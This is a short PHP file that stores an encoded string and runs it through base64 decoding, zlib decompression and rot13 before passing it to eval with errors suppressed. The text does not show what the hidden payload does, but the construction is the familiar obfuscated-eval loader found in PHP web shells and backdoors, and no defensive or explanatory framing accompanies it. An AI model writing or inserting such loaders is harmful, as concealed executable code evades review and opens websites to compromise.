<?php
$x = 'eJxLTc7IV1BKy8xVKCrNSVUoSS0uUShOzC3ISVWyBgCPGwnV';
@eval(str_rot13(gzuncompress(base64_decode($x))));
